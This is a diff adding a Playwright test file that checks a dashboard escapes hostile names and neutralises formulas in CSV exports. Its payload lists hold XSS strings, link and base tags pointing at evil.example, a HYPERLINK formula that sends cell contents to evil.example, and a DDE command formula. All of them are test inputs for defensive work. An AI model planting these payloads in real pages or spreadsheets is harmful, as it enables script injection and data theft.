@@ -1,0 +1,171 @@
+"""Names that others choose: shown as text, escaped where they hide, harmless in a file."""
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.dashboard.conftest import sign_in
+from tests.dashboard.site import Site
+from tests.dashboard.world import World, api_key, event, organization, pack, project, user
+
+pytestmark = pytest.mark.browser
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' autofocus onfocus=alert(1) x='",
+    "javascript:alert(1)",
+    "</bdi></td><iframe srcdoc='<script>alert(1)</script>'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<base href=https://evil.example/>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "__proto__",
+    "\x1b[2J\x1b]0;owned\x07",
+    "a\r\nSet-Cookie: x=1",
+    "evil\u202egpj.exe",
+    "pay\u200bpal \u2066x\u2069 \ufeff \U000e0041",
+    "lone \ud800 surrogate",
+    "line\u2028separator",
+    "x" * 20_000,
+]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    'quoted "name", with comma',
+    "two\r\nlines",
+]
+
+
+def _hostile() -> World:
+    """Every text of every row is a payload."""
+    world = World(organizations=[], kpis={"stale_keys": 1})
+    rows = list(enumerate(PAYLOADS + FORMULAS))
+    world.organizations = [
+        organization(f"org-{n}", display_name=text, hints=[text], status=text, outcome=text)
+        for n, text in rows
+    ]
+    org = {"org_id": "org-0"}
+    kind = {"kind": "orphan_key", "severity": "high"}
+    world.lists = {
+        "/users": [user(n, **org, email_prefix=t, role=t, user_id=f"{n}{t}") for n, t in rows],
+        "/projects": [project(n, **org, name=t, status=t) for n, t in rows],
+        "/api-keys": [
+            api_key(
+                n,
+                **org,
+                name=t,
+                redacted_value=t,
+                type=t,
+                owner_type=t,
+                owner_id=t,
+                findings=[kind | {"reason": t}, {"kind": t, "reason": t, "severity": t}],
+            )
+            for n, t in rows
+        ],
+        "/events": [
+            event(n, **org, event_type=t, actor_type=t, actor_id=t, target_id=t, details={t: [t]})
+            for n, t in rows
+        ],
+        "/evidence-packs": [pack(n + 1, "failed", reason=t, kind=t, profile=t) for n, t in rows],
+    }
+    return world
+
+
+def test_no_name_runs_loads_or_asks_anything(page: Page, site: Site) -> None:
+    """The page's fixture fails on a dialog, a policy violation, a foreign request or an error."""
+    site.world.__dict__.update(_hostile().__dict__)
+    site.world.refuse["GET /billing"] = (400, {"title": PAYLOADS[1], "detail": PAYLOADS[2]})
+    sign_in(page, site)
+    expect(page.get_by_test_id("organization")).to_have_count(len(PAYLOADS + FORMULAS))
+    expect(page.get_by_test_id("bill-problem")).to_contain_text(PAYLOADS[1])
+    for room, testid in (
+        ("users", "row"),
+        ("projects", "row"),
+        ("api-keys", "row"),
+        ("events", "row"),
+        ("packs", "pack"),
+    ):
+        page.get_by_test_id(f"nav-{room}").click()
+        rows = page.get_by_test_id(f"table-{room}").get_by_test_id(testid)
+        expect(rows).to_have_count(len(PAYLOADS + FORMULAS))
+        expect(rows.nth(0)).to_contain_text(PAYLOADS[0])
+    made = page.evaluate(
+        "document.querySelectorAll('#page :is(script, svg, iframe, link, base)').length"
+    )
+    assert made == 0
+
+
+def test_what_hides_is_shown_escaped(page: Page, site: Site) -> None:
+    """Bidi controls, zero-width characters, terminal escapes, tags, separators, lone surrogates."""
+    site.world.lists["/projects"] = [project(n, name=text) for n, text in enumerate(PAYLOADS)]
+    sign_in(page, site, "#projects")
+    table = page.get_by_test_id("table-projects")
+    for shown in (
+        "evil\\u202Egpj.exe",
+        "pay\\u200Bpal \\u2066x\\u2069 \\uFEFF \\u{E0041}",
+        "\\u001B[2J",
+        "a\\u000D\\u000ASet-Cookie",
+        "lone \\uD800 surrogate",
+        "line\\u2028separator",
+        "19700 more characters",
+    ):
+        expect(table).to_contain_text(shown)
+    expect(table.locator(".escape").first).to_be_visible()
+    assert not re.search("[\u202e\u200b\u2066\u2028\x1b]", table.inner_text())
+
+
+def _export(page: Page, room: str, into: Path) -> list[dict[str, str]]:
+    with page.expect_download() as caught:
+        page.get_by_test_id(f"{room}-csv").click()
+    caught.value.save_as(into)
+    text = into.read_bytes().decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_the_file_holds_every_page_and_no_formula(page: Page, site: Site, tmp_path: Path) -> None:
+    """Read again cell by cell: a formula has its apostrophe, everything else is as it was."""
+    site.world.lists["/projects"] = [project(n, name=text) for n, text in enumerate(FORMULAS)]
+    site.world.page_size = 4
+    sign_in(page, site, "#projects")
+    rows = _export(page, "projects", tmp_path / "projects.csv")
+    plain = {'quoted "name", with comma', "two\r\nlines"}
+    wanted = [text if text in plain else f"'{text}" for text in FORMULAS]
+    assert [row["name"] for row in rows] == wanted
+    assert [row["project_id"] for row in rows] == [f"proj_{n:04d}" for n in range(len(FORMULAS))]
+    assert {row["created_at"] for row in rows} == {"2025-10-02T10:00:00Z"}
+    assert {row["archived_at"] for row in rows} == {""}
+
+
+@pytest.mark.parametrize("room", ["users", "projects", "api-keys", "events"])
+def test_no_cell_of_any_table_starts_a_formula_or_hides_a_character(
+    page: Page, site: Site, tmp_path: Path, room: str
+) -> None:
+    """Every field of every row, payloads included."""
+    hostile = _hostile()
+    site.world.lists = hostile.lists
+    sign_in(page, site, f"#{room}")
+    rows = _export(page, room, tmp_path / "table.csv")
+    assert len(rows) == len(PAYLOADS + FORMULAS)
+    for cell in (cell for row in rows for cell in row.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
+        assert not re.search("[\u202e\u200b\u2066\ufeff\x1b\u2028]", cell)
+
+
+def test_a_file_that_cannot_be_completed_is_not_written(page: Page, site: Site) -> None:
+    """Half a table would look like a whole one."""
+    sign_in(page, site, "#users")
+    expect(page.get_by_test_id("users-count")).to_have_text("3 rows, all of them")
+    site.world.refuse["GET /users"] = (503, {"title": "Busy", "detail": "Try again."})
+    page.get_by_test_id("users-csv").click()
+    expect(page.get_by_test_id("users-csv-problem")).to_contain_text("Busy Try again.")
